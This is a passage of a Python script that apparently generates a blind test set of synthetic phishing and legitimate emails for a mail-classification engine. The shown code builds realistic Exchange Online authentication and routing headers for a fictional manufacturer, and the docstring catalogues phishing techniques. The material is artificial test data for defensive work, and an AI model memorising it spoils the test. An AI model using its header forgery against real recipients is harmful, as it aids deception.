"""Blind test set 13: what a mid-sized manufacturer's IT team quarantined or had reported, 2023-2026.

The recipients are the staff of Halvorsen & Kroll Fördertechnik GmbH (halkroll.de),
a fictional 300-person maker of conveyor and intralogistics systems in Paderborn with a
sales and service office in Coventry, on Microsoft 365 (EU tenant), so every message
carries the receiving headers Exchange Online writes: the Received chain through EOP,
Authentication-Results with compauth, Received-SPF, ARC from other Microsoft 365
tenants, X-MS-Exchange-Organization-SCL and X-Forefront-Antispam-Report. The fifty
phishing messages take the shapes attackers used against sales, purchasing, accounts
payable, HR, IT, the executives and the warehouse in 2023-2026: adversary-in-the-middle
kits (Tycoon 2FA, EvilProxy, Rockstar 2FA, Mamba 2FA) behind redirect hops (Google AMP
and /url, YouTube, Bing ck/a, LinkedIn slink, Baidu, Yandex) and hosting on Adobe
Express, Canva, Figma, Notion, Webflow and Framer; SVG and HTML attachments with
atob / charCode obfuscation; encrypted-message, e-signature, voicemail and fax
lookalikes; calendar invitations; QR codes in PDF, DOCX, inline PNG and an HTML table;
password-protected ZIPs; vendor-email compromise, CEO fraud and W-9 requests; freight
documents with ISO, IMG and ZIP droppers; quarantine-digest, sign-in-alert, Teams and
security-training lookalikes. The twenty-five legitimate messages do the same shapes
right: the tenant's real quarantine digest, real Teams, SharePoint and OneDrive
notifications, DocuSign and Dropbox Sign from known partners, a supplier's invoice,
a customer's RFQ and purchase order, a forwarder's bill of lading, a tax adviser's
encrypted ZIP with the password sent separately, Personio, KnowBe4, Entra ID
Protection, DHL, Amazon, LinkedIn, a trade-press newsletter and a vendor webinar.

Run from the repository root:

    .venv/bin/python samples/tools/build_blind13_samples.py

After the first scan, the genuine quarantine digest (quarantine@messaging.microsoft.com) and the
known customer's DocuSign envelope were filed under clean/, where the engine's classification puts
them (neither address is a no-reply or bulk one); their names keep the writer's "bulk". The three
droppers (an ISO with a program, an IMG with a shortcut, a ZIP with a script) are filed under malware/,
the verdict the engine gives them.
"""

from __future__ import annotations

import base64
import hashlib
import struct
import sys
import urllib.parse
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timezone
from email.utils import format_datetime
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind13_manifest.txt"

ORG = "halkroll.de"
ORG_NAME = "Halvorsen & Kroll Fördertechnik GmbH"
TENANT_ID = "3f6b2c1e-8d4a-4c7e-9b15-7a2e6d0c4f91"

# People at the recipient company.
P = {
    "kroll": ("Matthias Kroll", "m.kroll@halkroll.de"),          # Geschäftsführer (CEO)
    "halvorsen": ("Sabine Halvorsen", "s.halvorsen@halkroll.de"),  # CFO
    "wiechers": ("Jana Wiechers", "j.wiechers@halkroll.de"),      # accounts payable
    "ap": ("Rechnungseingang", "rechnungseingang@halkroll.de"),   # shared AP mailbox
    "brandt": ("Tobias Brandt", "t.brandt@halkroll.de"),          # head of purchasing
    "demir": ("Aylin Demir", "a.demir@halkroll.de"),              # buyer
    "grant": ("Oliver Grant", "o.grant@halkroll.de"),             # UK sales, Coventry
    "vogt": ("Lena Vogt", "l.vogt@halkroll.de"),                  # sales back office
    "schomaker": ("Petra Schomaker", "p.schomaker@halkroll.de"),  # HR
    "albers": ("Dennis Albers", "d.albers@halkroll.de"),          # head of IT
    "luettmann": ("Kai Lüttmann", "k.luettmann@halkroll.de"),     # IT administrator
    "nowak": ("Marek Nowak", "m.nowak@halkroll.de"),              # warehouse and dispatch lead
    "versand": ("Versand", "versand@halkroll.de"),                # dispatch shared mailbox
    "rohde": ("Svenja Rohde", "s.rohde@halkroll.de"),             # export and customs
    "wessel": ("Frank Wessel", "f.wessel@halkroll.de"),           # plant manager
    "korte": ("Julia Korte", "j.korte@halkroll.de"),              # assistant to the CEO
    "hartley": ("Ben Hartley", "b.hartley@halkroll.de"),          # UK field service engineer
}

SAMPLES: list[tuple[str, str, str, bytes]] = []


# ---------------------------------------------------------------- determinism helpers

def h(name: str, label: str = "", n: int = 16) -> str:
    """Hex digits derived from the sample name and a label."""
    out = ""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{name}|{label}|{counter}".encode()).hexdigest()
        counter += 1
    return out[:n]


def num(name: str, label: str, lo: int, hi: int) -> int:
    return lo + int(h(name, label, 12), 16) % (hi - lo + 1)


def guid(name: str, label: str = "guid") -> str:
    x = h(name, label, 32)
    return f"{x[:8]}-{x[8:12]}-{x[12:16]}-{x[16:20]}-{x[20:]}"


def b64s(name: str, label: str, n: int) -> str:
    """Base64-looking characters (signatures, blobs)."""
    raw = bytes.fromhex(h(name, label, n * 2))
    return base64.b64encode(raw).decode()[:n]


def alnum(name: str, label: str, n: int, upper: bool = False) -> str:
    chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    if upper:
        chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    raw = bytes.fromhex(h(name, label, n * 2))
    return "".join(chars[b % len(chars)] for b in raw)


def b64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def when(stamp: str) -> datetime:
    """'2024-09-17 08:14:52 +0200' -> aware datetime."""
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S %z")


def rfc(dt: datetime) -> str:
    return format_datetime(dt)


def utc(dt: datetime, seconds: int = 0) -> str:
    from datetime import timedelta
    return format_datetime((dt + timedelta(seconds=seconds)).astimezone(timezone.utc))


def fold(line: str, width: int = 76) -> str:
    """Fold a header line on spaces (continuation lines start with one space)."""
    words = line.split(" ")
    out, current = [], ""
    for word in words:
        if current and len(current) + 1 + len(word) > width:
            out.append(current)
            current = word
        else:
            current = f"{current} {word}" if current else word
    out.append(current)
    return "\n ".join(out)


def chunked(value: str, first: int = 60, width: int = 70) -> str:
    """A long unbroken value (signature) folded with tabs, as DKIM signers do."""
    parts = [value[:first]] + [value[i:i + width] for i in range(first, len(value), width)]
    return "\n\t".join(p for p in parts if p)


def domain_of(address: str) -> str:
    return address.rsplit("@", 1)[1].rstrip(">").lower()


def addr(person: str) -> str:
    name, email = P[person]
    return f"{quote_name(name)} <{email}>"


def quote_name(name: str) -> str:
    if any(c in name for c in ',.&()"@:;'):
        return '"' + name.replace('"', '') + '"'
    return name


def encoded_word(value: str) -> str:
    """RFC 2047 encode a header value that is not ASCII, as several B-encoded words of at most 75 characters
    (the whitespace between them folds and is dropped by decoders)."""
    if all(ord(c) < 128 for c in value):
        return value
    words, chunk = [], ""
    for ch in value:
        if len((chunk + ch).encode()) > 39:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    return " ".join("=?utf-8?B?" + base64.b64encode(w.encode()).decode() + "?=" for w in words)


def address_header(value: str) -> str:
    """'Name <a@b>' or '"Name" <a@b>' with the display name encoded when it is not ASCII."""
    if all(ord(c) < 128 for c in value) or "<" not in value:
        return value
    display, rest = value.rsplit("<", 1)
    display = display.strip().strip('"')
    return f"{encoded_word(display)} <{rest}"


def from_header(display: str, email: str) -> str:
    if not display:
        return email
    if all(ord(c) < 128 for c in display):
        return f"{quote_name(display)} <{email}>"
    return f"{encoded_word(display)} <{email}>"


# ---------------------------------------------------------------- sending infrastructure

@dataclass
class Sender:
    """Where a message comes from and what Exchange Online concluded about it."""

    kind: str                  # gmail, outlookcom, m365, postfix, kit, esp, microsoft
    ip: str
    helo: str
    ctry: str = "DE"
    mailfrom: str = ""         # envelope sender; defaults to the From address
    dkim_d: str | None = ""    # "" = the From domain, None = unsigned
    selector: str = "selector1"
    spf: str = "pass"
    dkim: str = "pass"
    dmarc: str = "pass"
    action: str = "none"
    compauth: str = "pass reason=100"
    host: str = ""             # the sender's own mail host (postfix, kit, esp)
    client: str = ""           # the submitting client's reverse name (postfix)
    client_ip: str = ""        # and address
    via: list[str] = field(default_factory=list)  # extra Received lines of the sender's side
    mailer: str = ""           # X-Mailer / User-Agent line
    esp_headers: list[str] = field(default_factory=list)


def m365_tenant_sender(ip: str, region: str = "EUR05", ctry: str = "DE", **kw) -> Sender:
    helo = {"EUR05": "EUR05-DB8-obe.outbound.protection.outlook.com",
            "EUR03": "EUR03-AM7-obe.outbound.protection.outlook.com",
            "EUR02": "EUR02-VI1-obe.outbound.protection.outlook.com",
            "GBR01": "GBR01-CWX-obe.outbound.protection.outlook.com",
            "DEU01": "DEU01-FR2-obe.outbound.protection.outlook.com",
            "NAM12": "NAM12-BN8-obe.outbound.protection.outlook.com",
            "NAM10": "NAM10-DM6-obe.outbound.protection.outlook.com",
            "NAM04": "NAM04-MW2-obe.outbound.protection.outlook.com"}[region]
    return Sender("m365", ip, helo, ctry, **kw)


def gmail_sender(ip: str, helo: str, ctry: str = "US", **kw) -> Sender:
    kw.setdefault("selector", "20230601")
    return Sender("gmail", ip, helo, ctry, **kw)


def build_number(dt: datetime) -> str:
    base = {2023: 6500, 2024: 7300, 2025: 8400, 2026: 9300}[dt.year]
    return f"15.20.{base + dt.timetuple().tm_yday * 3}.{dt.day + 10}"


def spf_text(s: Sender, mf_domain: str) -> str:
    if s.spf == "pass":
        return (f"Pass (protection.outlook.com: domain of {mf_domain} designates {s.ip} as permitted sender) "
                f"receiver=protection.outlook.com; client-ip={s.ip}; helo={s.helo}; pr=C")
    if s.spf == "softfail":
        return (f"SoftFail (protection.outlook.com: domain of transitioning {mf_domain} discourages use of "
                f"{s.ip} as permitted sender)")
    if s.spf == "fail":
        return (f"Fail (protection.outlook.com: domain of {mf_domain} does not designate {s.ip} as permitted "
                f"sender) receiver=protection.outlook.com; client-ip={s.ip}; helo={s.helo};")
    if s.spf == "temperror":
        return (f"TempError (protection.outlook.com: error in processing during lookup of {mf_domain}: DNS "
                f"Timeout)")
    return f"None (protection.outlook.com: {mf_domain} does not designate permitted sender hosts)"


def auth_results(s: Sender, mf_domain: str, hf_domain: str) -> str:
    dkim_d = s.dkim_d if s.dkim_d != "" else hf_domain
    if s.dkim_d is None or s.dkim == "none":
        dkim = "dkim=none (message not signed) header.d=none"
    elif s.dkim == "pass":
        dkim = f"dkim=pass (signature was verified) header.d={dkim_d}"
    else:
        dkim = f"dkim=fail (body hash did not verify) header.d={dkim_d}"
    return (f"Authentication-Results: spf={s.spf} (sender IP is {s.ip}) smtp.mailfrom={mf_domain}; {dkim};"
            f"dmarc={s.dmarc} action={s.action} header.from={hf_domain};compauth={s.compauth}")


def dkim_signature(name: str, d: str, selector: str, headers: str, dt: datetime, c: str = "relaxed/relaxed") -> str:
    t = int(dt.timestamp())
    line = f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d}; s={selector}; t={t}; h={headers}; bh={b64s(name, 'bh' + d, 43)}=; b="
    return fold(line) + chunked(b64s(name, "b" + d, 342) + "==")


def ms_hosts(name: str) -> dict[str, str]:
    return {
        "mbx": f"FR{num(name, 'mbx1', 2, 6)}P281MB{num(name, 'mbx2', 1000, 4999)}",
        "ca": f"FR{num(name, 'ca1', 0, 5)}P281CA{num(name, 'ca2', 1, 299):04d}",
        "eop": f"FR{num(name, 'eop1', 1, 6)}PEPF0000{h(name, 'eop2', 4).upper()}",
        "ip6a": f"2603:10a6:d10:{h(name, 'v6a', 2)}::{num(name, 'v6a2', 1, 40)}",
        "ip6b": f"2603:10a6:d10:{h(name, 'v6b', 3)}::{num(name, 'v6b2', 1, 20)}",
        "ip6c": f"2603:10a6:d10:{h(name, 'v6a', 2)}:cafe::{h(name, 'v6c', 2)}",
        "ip4": f"10.167.{num(name, 'ip4a', 16, 255)}.{num(name, 'ip4b', 2, 250)}",
    }


def sender_side(name: str, s: Sender, dt: datetime, from_email: str, to_email: str) -> tuple[list[str], str]:
    """Received lines and signatures written by the sender's side, and a Message-ID."""
    d = domain_of(from_email)
    lines: list[str] = []
    local = utc(dt, -1)
    if s.kind == "gmail":
        from datetime import timedelta
        pacific = timezone(timedelta(hours=-7 if 4 <= dt.month <= 10 else -8))
        local = format_datetime((dt - timedelta(seconds=1)).astimezone(pacific)) + \
            (" (PDT)" if 4 <= dt.month <= 10 else " (PST)")
        dkim_d = s.dkim_d or d
        sel = "20230601" if dkim_d == "gmail.com" else "google"
        msgid = f"<CA{alnum(name, 'gmid', 2)}+{alnum(name, 'gmid2', 44)}@mail.gmail.com>"
        lines.append(dkim_signature(name, dkim_d, sel,
                                    "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to",
                                    dt))
        lines.append(fold(f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=1e100.net; s=20230601; "
                          f"t={int(dt.timestamp())}; h=to:subject:message-id:date:from:mime-version:x-gm-message-state:"
                          f"from:to:cc:subject:date:message-id:reply-to; bh={b64s(name, 'gbh', 43)}=; b=")
                     + chunked(b64s(name, "gb", 342) + "=="))
        lines.append(fold(f"X-Gm-Message-State: AOJu0Y{b64s(name, 'gms', 60)}"))
        lines.append(fold(f"X-Google-Smtp-Source: AGHT+I{b64s(name, 'gss', 70)}"))
        lines.append(fold(f"X-Received: by 2002:a17:907:{h(name, 'xr1', 4)}:b0:{h(name, 'xr2', 3)}:{h(name, 'xr3', 4)} "
                          f"with SMTP id {alnum(name, 'xr4', 20).lower()}.{num(name, 'xr5', 1, 30)}.{num(name, 'xr6', 1000000, 9999999)}; "
                          f"{local}"))
        lines.append(fold(f"Received: by {s.helo} with SMTP id {alnum(name, 'gsid', 24).lower()}so{num(name, 'gso', 100000, 999999)}"
                          f"{alnum(name, 'gsx', 3).lower()}.{num(name, 'gsn', 1, 9)} for <{to_email}>; {local}"))
        return lines, msgid
    if s.kind in ("m365", "outlookcom"):
        region = s.helo.split("-")[0].lower()
        prefix, zone = {"eur05": ("DB9PR05", "eurprd05"), "eur03": ("AM9PR03", "eurprd03"),
                        "eur02": ("VI1PR02", "eurprd02"), "gbr01": ("LO2P265", "GBRP265"),
                        "deu01": ("FR3P281", "DEUP281"), "nam12": ("BN0PR12", "namprd12"),
                        "nam10": ("DM6PR10", "namprd10"), "nam04": ("MW4PR04", "namprd04")}[region]
        mbx = f"{prefix}MB{num(name, 'smbx', 1000, 9999)}.{zone}.prod.outlook.com"
        if s.kind == "outlookcom":
            mbx = (f"{'PAXP193' if region.startswith('eur') else 'SJ0P220'}MB{num(name, 'smbx', 1000, 9999)}."
                   f"{'EURP193' if region.startswith('eur') else 'NAMP220'}.PROD.OUTLOOK.COM")
        msgid = f"<{mbx.split('.')[0]}{h(name, 'msid', 24).upper()}@{mbx}>"
        hd = s.dkim_d or d
        lines.append(fold(f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none; b=")
                     + chunked(b64s(name, "arcs", 342) + "=="))
        lines.append(fold("ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com; "
                          "s=arcselector10001; h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
                          "X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:"
                          f"X-MS-Exchange-AntiSpam-MessageData-1; bh={b64s(name, 'arcbh', 43)}=; b=")
                     + chunked(b64s(name, "arcb", 342) + "=="))
        lines.append(fold(f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass smtp.mailfrom={domain_of(s.mailfrom or from_email)}; "
                          f"dmarc=pass action=none header.from={d}; dkim=pass header.d={hd}; arc=none"))
        if s.dkim_d is not None:
            sel = s.selector
            lines.append(dkim_signature(name, hd, sel, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
                                        "X-MS-Exchange-SenderADCheck", dt))
        lines.append(fold(f"Received: from {mbx} (2603:10a6:20b:{h(name, 's6', 3)}::{num(name, 's6b', 5, 30)}) by {mbx} "
                          f"(2603:10a6:20b:{h(name, 's6', 3)}::{num(name, 's6b', 5, 30)}) with Microsoft SMTP Server "
                          f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build_number(dt)}; {local}"))
        lines.append(fold(f"Received: from {mbx} ([fe80::{h(name, 'fe1', 4)}:{h(name, 'fe2', 4)}:{h(name, 'fe3', 4)}:"
                          f"{h(name, 'fe4', 4)}%{num(name, 'fe5', 3, 7)}]) by {mbx} ([fe80::{h(name, 'fe1', 4)}:"
                          f"{h(name, 'fe2', 4)}:{h(name, 'fe3', 4)}:{h(name, 'fe4', 4)}%{num(name, 'fe5', 3, 7)}]) with "
                          f"mapi id {build_number(dt)}; {local}"))
        return lines, msgid
    if s.kind in ("postfix", "kit"):
        host = s.host or f"mail.{d}"
        if s.kind == "kit":
            msgid = f"<{alnum(name, 'kmid', 32)}@{host}>"
        elif "Outlook" in s.mailer:
            msgid = (f"<00{h(name, 'omid1', 4)}01db{h(name, 'omid2', 4)}${h(name, 'omid3', 8)}${h(name, 'omid4', 8)}"
                     f"$@{d}>")
        else:
            msgid = f"<{guid(name, 'pmid')}@{d}>"
        if s.dkim_d is not None:
            lines.append(dkim_signature(name, s.dkim_d or d, s.selector, "From:To:Subject:Date:Message-ID:From", dt,
                                        "relaxed/simple"))
        lines.extend(s.via)
        if s.kind == "postfix":
            lines.append(fold(f"Received: from [192.168.{num(name, 'lan1', 0, 2)}.{num(name, 'lan2', 20, 200)}] "
                              f"({s.client or 'unknown'} [{s.client_ip or s.ip}]) (Authenticated sender: {from_email}) by {host} "
                              f"(Postfix) with ESMTPSA id 4{alnum(name, 'qid', 11, True)} for <{to_email}>; {rfc(dt)}"))
        else:
            lines.append(fold(f"Received: from localhost (localhost [127.0.0.1]) by {host} (Postfix) with ESMTP id "
                              f"{h(name, 'kqid', 11).upper()} for <{to_email}>; {rfc(dt)}"))
        return lines, msgid
    if s.kind == "esp":
        msgid = f"<{h(name, 'emid', 24)}@{s.host or d}>"
        if s.dkim_d is not None:
            lines.append(dkim_signature(name, s.dkim_d or d, s.selector,
                                        "From:To:Subject:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post:"
                                        "Content-Type:MIME-Version", dt))
        lines.extend(s.via)
        return lines, msgid
    if s.kind == "microsoft":
        msgid = f"<{h(name, 'msmid', 32)}@{s.host or d}>"
        if s.dkim_d is not None:
            lines.append(dkim_signature(name, s.dkim_d or d, s.selector, "From:Date:Subject:Message-ID:Content-Type:"
                                        "MIME-Version", dt))
        lines.extend(s.via)
        return lines, msgid
    raise ValueError(s.kind)


def envelope(name: str, dt: datetime, s: Sender, from_: str, to: list[str], subject: str, *,
             cc: list[str] | None = None, reply_to: str = "", msgid: str = "", extra: list[str] | None = None,
             scl: int = 1, sfv: str = "", cat: str = "NONE", bcl: int = 0, lang: str = "en", srv: str = "",
             in_reply_to: str = "", references: str = "", thread: bool = True) -> str:
    """The whole header block of a message as it sits in the recipient's Exchange Online mailbox."""
    from_email = from_.rsplit("<", 1)[-1].rstrip(">") if "<" in from_ else from_
    to_email = to[0].rsplit("<", 1)[-1].rstrip(">")
    hf = domain_of(from_email)
    mf = s.mailfrom or from_email
    mf_domain = domain_of(mf)
    hosts = ms_hosts(name)
    build = build_number(dt)
    side, default_id = sender_side(name, s, dt, from_email, to_email)
    msgid = msgid or default_id
    net_id = guid(name, "netid")
    ptr = s.helo
    if not sfv:
        sfv = "SPM" if scl >= 5 else ("BLK" if bcl >= 7 else "NSPM")
    if bcl >= 4 and not srv:
        srv = "BULK"
    lines = [
        fold(f"Received: from {hosts['ca']}.DEUP281.PROD.OUTLOOK.COM ({hosts['ip6a']}) by "
             f"{hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM ({hosts['ip6b']}) with Microsoft SMTP Server "
             f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {utc(dt, 2)}"),
        fold(f"Received: from {hosts['eop']}.DEUP281.PROD.OUTLOOK.COM ({hosts['ip6c']}) by "
             f"{hosts['ca']}.outlook.office365.com ({hosts['ip6a']}) with Microsoft SMTP Server (version=TLS1_3, "
             f"cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {utc(dt, 2)}"),
        fold(auth_results(s, mf_domain, hf)),
        fold(f"Received-SPF: {spf_text(s, mf_domain)}"),
        fold(f"Received: from {s.helo} ({s.ip}) by {hosts['eop']}.mail.protection.outlook.com ({hosts['ip4']}) "
             f"with Microsoft SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend "
             f"Transport; {utc(dt, 1)}"),
    ]
    lines += side
    lines.append(fold(f"From: {address_header(from_)}"))
    lines.append(fold("To: " + ", ".join(address_header(t) for t in to)))
    if cc:
        lines.append(fold("CC: " + ", ".join(address_header(c) for c in cc)))
    lines.append(fold(f"Subject: {encoded_word(subject)}"))
    if s.kind in ("m365", "outlookcom") and thread:
        topic = subject
        for prefix in ("RE: ", "AW: ", "WG: ", "FW: ", "Re: ", "Fwd: "):
            if topic.startswith(prefix):
                topic = topic[len(prefix):]
        lines.append(fold(f"Thread-Topic: {encoded_word(topic)}"))
        lines.append(f"Thread-Index: AQH{b64s(name, 'thidx', 33)}")
    lines.append(f"Date: {rfc(dt)}")
    lines.append(f"Message-ID: {msgid}")
    if in_reply_to:
        lines.append(f"In-Reply-To: {in_reply_to}")
    if references:
        lines.append(fold(f"References: {references}"))
    if reply_to:
        lines.append(f"Reply-To: {address_header(reply_to)}")
    if s.kind in ("m365", "outlookcom") and thread:
        lang_tag = "de-DE" if lang == "de" else "en-GB" if s.ctry == "GB" else "en-US"
        lines.append(f"Accept-Language: {lang_tag}, en-US")
        lines.append(f"Content-Language: {lang_tag}")
        lines.append("X-MS-Has-Attach:" + (" yes" if any(e.lower().startswith("x-attach") for e in (extra or [])) else ""))
        lines.append("X-MS-TNEF-Correlator:")
    if s.mailer:
        lines.append(s.mailer)
    lines += s.esp_headers
    lines += [e for e in (extra or []) if not e.lower().startswith("x-attach")]
    lines.append("MIME-Version: 1.0")
    lines.append(f"Return-Path: {mf}")
    lines.append(f"X-MS-Exchange-Organization-ExpirationStartTime: {dt.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)")
    lines.append("X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit")
    lines.append("X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000")
    lines.append("X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit")
    lines.append(f"X-MS-Exchange-Organization-Network-Message-Id: {net_id}")
    lines.append("X-EOPAttributedMessage: 0")
    lines.append("X-EOPTenantAttributedMessage: 3f6b2c1e-8d4a-4c7e-9b15-7a2e6d0c4f91:0")
    lines.append("X-MS-Exchange-Organization-MessageDirectionality: Incoming")
    lines.append("X-MS-PublicTrafficType: Email")
    lines.append(f"X-MS-TrafficTypeDiagnostic: {hosts['eop']}:EE_|{hosts['mbx']}:EE_")
    lines.append(f"X-MS-Exchange-Organization-AuthSource: {hosts['eop']}.DEUP281.PROD.OUTLOOK.COM")
    lines.append("X-MS-Exchange-Organization-AuthAs: Anonymous")
    lines.append(f"X-MS-Office365-Filtering-Correlation-Id: {net_id}")
    lines.append(f"X-MS-Exchange-Organization-SCL: {scl}")
    lines.append(f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|{num(name, 'ara1', 1000000, 9999999)}"
                 f"|{num(name, 'ara2', 10000, 99999)}|82310400026|1800799024|{num(name, 'ara3', 100, 999)}"
                 f"|{num(name, 'ara4', 1000000, 9999999)};")
    lines.append(fold(f"X-Forefront-Antispam-Report: CIP:{s.ip};CTRY:{s.ctry};LANG:{lang};SCL:{scl};SRV:{srv};"
                      f"IPV:NLI;SFV:{sfv};H:{s.helo};PTR:{ptr};CAT:{cat};SFS:(13230040)"
                      f"({num(name, 'sfs1', 1000000, 9999999)})({num(name, 'sfs2', 10000, 99999)})(82310400026)"
                      f"(1800799024)({num(name, 'sfs3', 100, 999)})({num(name, 'sfs4', 1000000, 9999999)});DIR:INB;"))
    lines.append(f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {dt.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)")
    lines.append(f"X-MS-Exchange-CrossTenant-Network-Message-Id: {net_id}")
    lines.append(f"X-MS-Exchange-CrossTenant-Id: {TENANT_ID}")
    lines.append(f"X-MS-Exchange-CrossTenant-AuthSource: {hosts['eop']}.DEUP281.PROD.OUTLOOK.COM")
    lines.append("X-MS-Exchange-CrossTenant-AuthAs: Anonymous")
    lines.append("X-MS-Exchange-CrossTenant-FromEntityHeader: Internet")
    lines.append(f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {hosts['mbx']}")
    lines.append(f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(name, 'lat', 1, 9)}.{num(name, 'lat2', 1000000, 9999999)}")
    lines.append(f"X-MS-Exchange-Processed-By-BccFoldering: {build}")
    if scl < 9:
        dest = "J" if scl >= 5 or (bcl >= 7) else "I"
        lines.append(fold(f"X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:{dest};"
                          f"ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003)"
                          + (";RF:JunkEmail;" if dest == "J" else ";")))
    lines.append(fold(f"X-Microsoft-Antispam-Message-Info: {b64s(name, 'ami', 120)}"))
    return "\n".join(lines)


def internal_envelope(name: str, dt: datetime, from_: str, to: list[str], subject: str, *, cc=None,
                      lang: str = "de", extra: list[str] | None = None) -> str:
    """Headers of a message sent inside the tenant (Outlook desktop to a distribution group)."""
    hosts = ms_hosts(name)
    build = build_number(dt)
    net_id = guid(name, "netid")
    msgid = f"<{hosts['mbx']}{h(name, 'imid', 24).upper()}@{hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM>"
    lines = [
        fold(f"Received: from {hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM ({hosts['ip6b']}) by "
             f"{hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM with HTTPS; {utc(dt, 1)}"),
        fold(f"Received: from {hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM ([fe80::{h(name, 'ife', 4)}:{h(name, 'ife2', 4)}:"
             f"{h(name, 'ife3', 4)}:{h(name, 'ife4', 4)}%7]) by {hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM "
             f"([fe80::{h(name, 'ife', 4)}:{h(name, 'ife2', 4)}:{h(name, 'ife3', 4)}:{h(name, 'ife4', 4)}%7]) with "
             f"mapi id {build}; {utc(dt)}"),
        f"Content-Class: urn:content-classes:message",
        fold(f"From: {address_header(from_)}"),
        fold("To: " + ", ".join(address_header(t) for t in to)),
    ]
    if cc:
        lines.append(fold("CC: " + ", ".join(address_header(c) for c in cc)))
    lines += [
        fold(f"Subject: {encoded_word(subject)}"),
        fold(f"Thread-Topic: {encoded_word(subject)}"),
        f"Thread-Index: AQH{b64s(name, 'thidx', 33)}",
        f"Date: {rfc(dt)}",
        f"Message-ID: {msgid}",
        "Accept-Language: de-DE, en-US",
        "Content-Language: de-DE",
        "X-MS-Has-Attach:",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-TNEF-Correlator:",
    ]
    lines += extra or []
    lines += [
        "MIME-Version: 1.0",
        f"X-MS-Exchange-Organization-MessageDirectionality: Originating",
        f"X-MS-Exchange-Organization-AuthSource: {hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM",
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-Network-Message-Id: {net_id}",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        fold(f"X-Forefront-Antispam-Report: CIP:255.255.255.255;CTRY:;LANG:{lang};SCL:-1;SRV:;IPV:NLI;SFV:SKI;"
             f"H:{hosts['mbx']}.DEUP281.PROD.OUTLOOK.COM;PTR:;CAT:NONE;SFS:;DIR:INT;"),
        f"X-MS-Exchange-CrossTenant-Id: {TENANT_ID}",
        "X-MS-Exchange-CrossTenant-AuthAs: Internal",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {net_id}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.{num(name, 'lat', 1000000, 9999999)}",
        "X-MS-Exchange-Processed-By-BccFoldering: " + build,
        "X-Microsoft-Antispam-Mailbox-Delivery: abwl:0;wl:0;pcwl:0;kl:0;dwl:0;dkl:0;rwl:0;ucf:0;jmr:0;ex:0;auth:1;"
        "dest:I;ENG:(910005)(944506478)(944626604)(920097)(425001)(930097)(140003);",
    ]
    return "\n".join(lines)


# ---------------------------------------------------------------- MIME helpers

def alt(name: str, plain: str, html: str, style: str = "outlook") -> Multi:
    return Multi("alternative", boundary(name, style, "alt"), [text(plain), text(html, "html")])


def boundary(name: str, style: str, label: str = "") -> str:
    if style == "outlook":
        prefix = {"alt": "000", "rel": "003", "mix": "004"}.get(label, f"{num(name, 'ob' + label, 5, 9):03d}")
        return f"_{prefix}_{h(name, 'obid', 16).upper()}_"
    if style == "gmail":
        return "0000000000" + h(name, "gb" + label, 16)
    if style == "java":
        return f"----=_Part_{num(name, 'jb' + label, 10000, 99999)}_{num(name, 'jb2', 100000000, 999999999)}." \
               f"{num(name, 'jb3', 1700000000000, 1799999999999)}"
    if style == "php":
        return "b1_" + alnum(name, "pb" + label, 32)
    if style == "apple":
        return f"Apple-Mail={guid(name, 'ab' + label).upper()}"
    if style == "sendgrid":
        return h(name, "sgb" + label, 64)
    if style == "ses":
        return f"----=_Part_{num(name, 'sb' + label, 100000, 999999)}_{num(name, 'sb2', 1000000, 9999999)}." \
